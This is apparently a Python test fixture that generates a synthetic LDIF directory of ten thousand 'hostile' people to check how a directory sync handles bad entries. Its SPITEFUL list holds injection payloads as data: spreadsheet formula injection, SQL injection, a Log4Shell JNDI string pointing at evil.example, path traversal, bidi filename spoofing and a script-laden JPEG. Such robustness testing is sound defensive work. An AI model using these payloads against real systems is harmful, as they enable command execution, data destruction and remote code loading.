"""Ten thousand hostile people as LDIF, and what a correct sync must say of them; deterministic."""

import base64
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass

from tests.directory.hostile import PAYLOADS

BASE = "dc=pln,dc=example"
PEOPLE = f"ou=people,{BASE}"
CIRCLES = f"ou=circles,{BASE}"
SPITEFUL = (
    *PAYLOADS,
    "=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "=1+1",
    "'; DROP TABLE person; --", '" OR "1"="1', "%(name)s %s {0} ${jndi:ldap://evil.example/a}",
    "bell \x07 escape \x1b[31m and \x7f", "left \u202egnp.exe\u202c and \u2066isolate\u2069", "\u200bz\ufeff",
    "line\u2028break\u2029and\ttab\r\nnew line", "محمد الحسن", "佐藤 さくら 민준 伟", "İbrahim ışık ĞÜŞ",
    "e\u0301 ﬀ ǆ ß",
    "👩‍💻 🇪🇺", "Z" + "\u0341" * 40, "&lt;b&gt;&amp;amp;", "../../etc/passwd", "NULL", "undefined", "0",
)  # fmt: skip
TOO_LONG = "L" * 401
JPEG = b"\xff\xd8\xff\xe0<script>alert(1)</script>\xff\xd9"


@dataclass(frozen=True, kw_only=True)
class HostileCompany:
    """The directory, and what must come of it."""

    ldif: str
    people: int
    rejected: Counter[str]
    """How many are set aside for each reason, told by the beginning of the sentence."""
    disabled: int
    cycles: int

    @property
    def accepted(self) -> int:
        return self.people - self.rejected.total()


def hostile_company(people: int) -> HostileCompany:
    """So many people, whose number decides what is wrong with them."""
    numbers = range(people)
    rejected = Counter(filter(None, map(reason, numbers)))
    return HostileCompany(
        ldif=_head() + "".join(_person(number, people) for number in numbers) + "".join(_circles(people)),
        people=people,
        rejected=rejected,
        disabled=sum(is_disabled(number) and not reason(number) for number in numbers),
        cycles=sum(len(cycle_of(number)) > 0 and number % 100 == 10 for number in numbers),
    )


def reason(number: int) -> str:
    """Why this person is set aside; empty for who comes in."""
    return {1: "the same mail", 2: "the same mail", 3: "it has no uid", 4: "title is longer than 400"}.get(
        number % 100, ""
    )


def is_disabled(number: int) -> bool:
    """Locked for ever, or of an employee type that says they have left."""
    return number % 100 in (5, 6)


def cycle_of(number: int) -> tuple[int, ...]:
    """The circle of managers of one, two or three people that begins here; each hundred has one."""
    return tuple(range(number, number + 1 + number // 100 % 3)) if number % 100 == 10 else ()


def manager(number: int, people: int) -> str:
    """A person in a circle, or a boss who is there, spelt in another way, or nowhere."""
    start = number - number % 100 + 10
    circle = cycle_of(start)
    if number in circle:
        return dn_of(circle[(circle.index(number) + 1) % len(circle)])
    boss = dn_of(number // 100 * 100)
    match number % 10:
        case 0:
            return dn_of(0) if number else ""
        case 7:
            return boss.upper().replace(",OU=", " , OU = ").replace(",DC=", ",  dc=")
        case 8:
            return f"uid=nobody{number},{PEOPLE}"
        case 9:
            return boss.replace("\\,", "\\2C").replace('\\"', "\\22")
    return boss


def dn_of(number: int) -> str:
    """Needs escapes, has two values in its first part, or is plain, by turns."""
    name = {
        0: f'Doe\\, {number} \\"x\\" \\#\\+\\<b\\>\\;',
        1: f"\\#Doe\\20{number}\\ ",
        2: f"Şen {number} 佐藤",
    }
    if number % 100 == 3:
        return f"cn=no uid {number},{PEOPLE}"
    first = name.get(number % 4)
    return f"cn={first}+uid=h{number},{PEOPLE}" if first else f"uid=h{number},{PEOPLE}"


def _person(number: int, people: int) -> str:
    spite = SPITEFUL[number % len(SPITEFUL)]
    common = {0: f'Doe, {number} "x" #+<b>;', 1: f"#Doe {number} ", 2: f"Şen {number} 佐藤"}.get(number % 4)
    values = [("cn", common or f"Plain {number}"), ("sn", spite), ("displayName", spite)]
    values += [(name, spite) for name in ("ou", "l", "departmentNumber", "description", "street")]
    values += [("cn", f"Other {number}"), ("cn", "A third name")] if number % 3 == 0 else []
    values += [("cn", f"no uid {number}")] if number % 100 == 3 else [("uid", f"h{number}")]
    values += [("title", TOO_LONG if number % 100 == 4 else spite)]
    values += [("mail", _mail(number))] if number % 7 or reason(number) == "the same mail" else []
    values += [("employeeType", "former" if number % 100 == 5 else spite)]
    values += [("pwdAccountLockedTime", "000001010000Z")] if number % 100 == 6 else []
    values += [("manager", boss)] if (boss := manager(number, people)) else []
    values += [("jpegPhoto", JPEG)] if number % 20 == 0 else []
    return _entry(dn_of(number), "inetOrgPerson", *values)


def _mail(number: int) -> str:
    """One and two of each hundred share their address, in another spelling."""
    if number % 100 in (1, 2):
        return f"{'Double' if number % 2 else 'double'}{number // 100}@pln.example"
    return f"h{number}@pln.example"


def _circles(people: int) -> Iterator[str]:
    """Groups in a ring, each a member of the next, with scripts for names."""
    yield _entry(CIRCLES, "organizationalUnit", ("ou", "circles"))
    for number in range(6):
        members = [("member", dn_of(one)) for one in range(number, people, 50) if one % 100 != 3]
        ring = ("member", f"cn=ring {(number + 1) % 6},{CIRCLES}")
        names = (("cn", f"ring {number}"), ("ou", PAYLOADS[number]))
        yield _entry(f"cn=ring {number},{CIRCLES}", "groupOfNames", *names, ring, *members)


def _head() -> str:
    return (
        f"dn: {BASE}\nobjectClass: domain\ndc: pln\n\n"
        f"dn: {PEOPLE}\nobjectClass: organizationalUnit\nou: people\n\n"
    )


def _entry(dn: str, kind: str, *values: tuple[str, str | bytes]) -> str:
    lines = [f"dn:: {_base64(dn)}", f"objectClass: {kind}"]
    lines += [f"{name}:: {_base64(value)}" for name, value in dict.fromkeys(values)]
    return "\n".join(lines) + "\n\n"


def _base64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()
